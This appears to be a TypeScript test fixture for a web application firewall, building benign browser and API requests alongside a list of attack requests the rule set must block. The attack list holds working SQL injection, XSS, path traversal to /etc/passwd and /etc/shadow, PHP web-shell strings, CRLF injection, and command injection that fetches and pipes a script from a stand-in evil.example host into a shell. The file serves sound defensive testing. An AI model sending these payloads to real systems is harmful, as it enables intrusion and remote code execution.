// Realistic requests for the CRS tests and the benchmark: what browsers, API clients and
// attackers send. Headers are those of current browsers (Chrome 120 / Firefox 120).
import type { WafRequest } from '../../../../edge/http/waf/index.js';

export interface CorpusRequest {
  readonly name: string;
  readonly request: WafRequest;
  readonly body: Buffer | null;
}

const CHROME_UA = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36';
const FIREFOX_UA = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0';

const BROWSER_PAGE: Record<string, string> = {
  'user-agent': CHROME_UA,
  accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7',
  'accept-language': 'en-US,en;q=0.9,fr;q=0.8',
  'accept-encoding': 'gzip, deflate, br',
  'sec-ch-ua': '"Not_A Brand";v="8", "Chromium";v="120", "Google Chrome";v="120"',
  'sec-ch-ua-mobile': '?0',
  'sec-ch-ua-platform': '"Linux"',
  'sec-fetch-dest': 'document',
  'sec-fetch-mode': 'navigate',
  'sec-fetch-site': 'same-origin',
  'sec-fetch-user': '?1',
  'upgrade-insecure-requests': '1',
  cookie: '_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000; session=eyJ1c2VyIjo0Mn0.ZXhhbXBsZQ.c2lnbmF0dXJl; theme=dark',
};

let counter = 0;

export function request(method: string, url: string, headers: Record<string, string> = {}, body: string | Buffer | null = null, clientIp = '203.0.113.7'): CorpusRequest {
  const buf = body === null ? null : typeof body === 'string' ? Buffer.from(body, 'utf8') : body;
  const h: Record<string, string> = { host: 'www.example.com', ...headers };
  if (buf !== null && h['content-length'] === undefined) h['content-length'] = String(buf.length);
  return {
    name: `${method} ${url}`,
    request: {
      requestId: `req-${++counter}`,
      method,
      url,
      host: 'www.example.com',
      httpVersion: '1.1',
      headers: h,
      clientIp,
      clientPort: 40000 + (counter % 20000),
      servername: 'www.example.com',
    },
    body: buf,
  };
}

export function page(url: string, extra: Record<string, string> = {}): CorpusRequest {
  return request('GET', url, { ...BROWSER_PAGE, ...extra });
}

function asset(url: string, accept: string, dest: string): CorpusRequest {
  return request('GET', url, {
    'user-agent': FIREFOX_UA,
    accept,
    'accept-language': 'en-US,en;q=0.5',
    'accept-encoding': 'gzip, deflate, br',
    referer: 'https://www.example.com/blog/2024/waf-at-the-edge',
    'sec-fetch-dest': dest,
    'sec-fetch-mode': 'no-cors',
    'sec-fetch-site': 'same-origin',
    cookie: '_ga=GA1.2.1234567890.1700000000; theme=dark',
  });
}

const API_HEADERS: Record<string, string> = {
  'user-agent': CHROME_UA,
  accept: 'application/json, text/plain, */*',
  'accept-language': 'en-US,en;q=0.9',
  'accept-encoding': 'gzip, deflate, br',
  origin: 'https://www.example.com',
  referer: 'https://www.example.com/checkout',
  'sec-fetch-dest': 'empty',
  'sec-fetch-mode': 'cors',
  'sec-fetch-site': 'same-origin',
  authorization: 'Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI0MiJ9.dGVzdHNpZ25hdHVyZQ',
};

function json(method: string, url: string, value: unknown): CorpusRequest {
  return request(method, url, { ...API_HEADERS, 'content-type': 'application/json' }, JSON.stringify(value));
}

function form(url: string, body: string): CorpusRequest {
  return request('POST', url, { ...BROWSER_PAGE, 'content-type': 'application/x-www-form-urlencoded', origin: 'https://www.example.com', referer: 'https://www.example.com/contact' }, body);
}

/** A PNG of 1×1 pixel: the bytes a browser uploads. */
const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201e2a1d6350000000049454e44ae426082', 'hex');

function upload(): CorpusRequest {
  const boundary = '----WebKitFormBoundary7MA4YWxkTrZu0gW';
  const body = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\nHoliday photo\r\n`),
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="description"\r\n\r\nThe beach at sunset, taken with my phone.\r\n`),
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="photo"; filename="beach-sunset.png"\r\nContent-Type: image/png\r\n\r\n`),
    PNG,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return request('POST', '/account/photos', { ...BROWSER_PAGE, 'content-type': `multipart/form-data; boundary=${boundary}`, origin: 'https://www.example.com', referer: 'https://www.example.com/account' }, body);
}

/** Ordinary browsing and API use: none of it may be blocked. */
export function benignRequests(): CorpusRequest[] {
  return [
    page('/'),
    page('/blog/2024/waf-at-the-edge'),
    page('/search?q=best+coffee+shops+in+paris&page=2&sort=relevance'),
    page('/products?category=shoes&size=42&color=dark%20blue&price_min=50&price_max=120'),
    page("/search?q=O%27Reilly+books+about+SQL+and+JavaScript"),
    asset('/static/js/app.3f2a1c9b.js', '*/*', 'script'),
    asset('/static/css/site.min.css?v=1.4.2', 'text/css,*/*;q=0.1', 'style'),
    asset('/images/logo@2x.png', 'image/avif,image/webp,*/*', 'image'),
    asset('/favicon.ico', 'image/avif,image/webp,*/*', 'image'),
    asset('/fonts/inter-var.woff2', '*/*', 'font'),
    json('POST', '/api/v1/orders', { items: [{ sku: 'A-1001', qty: 2 }, { sku: 'B-77', qty: 1 }], note: 'Leave it at the door, please! Ring twice.', email: 'jane.doe@example.com', coupon: null, gift: false }),
    json('POST', '/api/v1/search', { query: 'running shoes', filters: { brand: ['Nike', 'Asics'], size: 42 }, page: 1 }),
    form('/contact', 'name=Jane+Doe&email=jane.doe%40example.com&subject=Quote&message=Hello%2C+I%27d+like+a+quote+for+3+items+-+delivery+to+Lyon+next+week.+Thanks%21&subscribe=on'),
    form('/login', 'username=jane.doe&password=correct-horse-battery-staple&remember=1'),
    upload(),
    json('POST', '/graphql', {
      operationName: 'ProductPage',
      query: 'query ProductPage($slug: String!) { product(slug: $slug) { name price currency reviews(first: 3) { rating text author { displayName } } } }',
      variables: { slug: 'red-running-shoes' },
    }),
    request('GET', '/graphql?query=%7B%20product(id%3A%20%227%22)%20%7B%20name%20price%20%7D%20%7D', API_HEADERS),
    request('OPTIONS', '/api/v1/orders', { 'user-agent': CHROME_UA, accept: '*/*', origin: 'https://app.example.com', 'access-control-request-method': 'POST', 'access-control-request-headers': 'authorization,content-type' }),
    request('HEAD', '/downloads/report-2024.pdf', { 'user-agent': 'curl/8.5.0', accept: '*/*' }),
  ];
}

/** Attacks, by the class the CRS names them; every one must be blocked at paranoia level 1. */
export function attackRequests(): { readonly kind: string; readonly req: CorpusRequest }[] {
  const a = (kind: string, req: CorpusRequest) => ({ kind, req });
  return [
    a('sqli', page("/products?id=1'%20UNION%20SELECT%20username,password%20FROM%20users--")),
    a('sqli', page("/search?q=1'%20or%20'1'%3D'1")),
    a('sqli', form('/login', "username=admin'--&password=x")),
    a('sqli', json('POST', '/api/v1/search', { query: "x' AND SLEEP(5) AND '1'='1" })),
    a('sqli', page('/item?id=1;DROP%20TABLE%20users')),
    a('xss', page('/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E')),
    a('xss', page('/profile?name=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E')),
    a('xss', form('/comments', 'comment=%3Csvg%2Fonload%3Dalert(1)%3E&post=12')),
    a('xss', page('/redirect?to=javascript:alert(1)')),
    a('path-traversal', page('/download?file=../../../../etc/passwd')),
    a('path-traversal', page('/static/..%2f..%2f..%2fetc%2fshadow')),
    a('path-traversal', page('/view?page=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd')),
    a('path-traversal', page('/include?tpl=..%5c..%5c..%5cwindows%5cwin.ini')),
    a('command-injection', page('/ping?host=127.0.0.1;cat%20/etc/passwd')),
    a('command-injection', page('/tools/lookup?domain=example.com%7C%7Cwget%20http://evil.example/x.sh')),
    a('command-injection', form('/convert', 'file=a.png%60cat%20/etc/passwd%60&format=jpg')),
    a('command-injection', page('/exec?q=%24(curl%20-s%20http://evil.example/x.sh%20%7C%20sh)')),
    a('php-injection', page('/index.php?x=%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%20%3F%3E')),
    a('php-injection', page('/index.php?page=php://filter/convert.base64-encode/resource=index.php')),
    a('php-injection', form('/upload.php', 'data=%3C%3Fphp+eval%28base64_decode%28%24_POST%5Bx%5D%29%29%3B')),
    a('protocol-attack', page('/lang?l=en%0d%0aSet-Cookie:%20admin=1%0d%0aContent-Length:%200')),
    a('protocol-attack', request('POST', '/api/echo', { 'user-agent': CHROME_UA, accept: '*/*', 'content-type': 'application/x-www-form-urlencoded' }, 'x=1%0d%0a%0d%0aGET /admin HTTP/1.1%0d%0aHost: internal')),
    a('protocol-attack', page('/page?p=foo%0d%0aLocation:%20http://evil.example')),
  ];
}

/**
 * A typical GraphQL query that CRS 3.3.4 itself flags at paranoia level 1: "GetUser(" and
 * "user(id:" match 942190 (MSSQL "user(" function), "{ id " matches 932100 (Unix "id" command).
 * The tests show it blocked as shipped, and let through by the exclusion a site writes.
 */
export function graphqlWithUserField(): CorpusRequest {
  return json('POST', '/graphql', {
    operationName: 'GetUser',
    query: 'query GetUser($id: ID!) { user(id: $id) { id name email posts(first: 10) { edges { node { id title publishedAt } } } } }',
    variables: { id: '42' },
  });
}
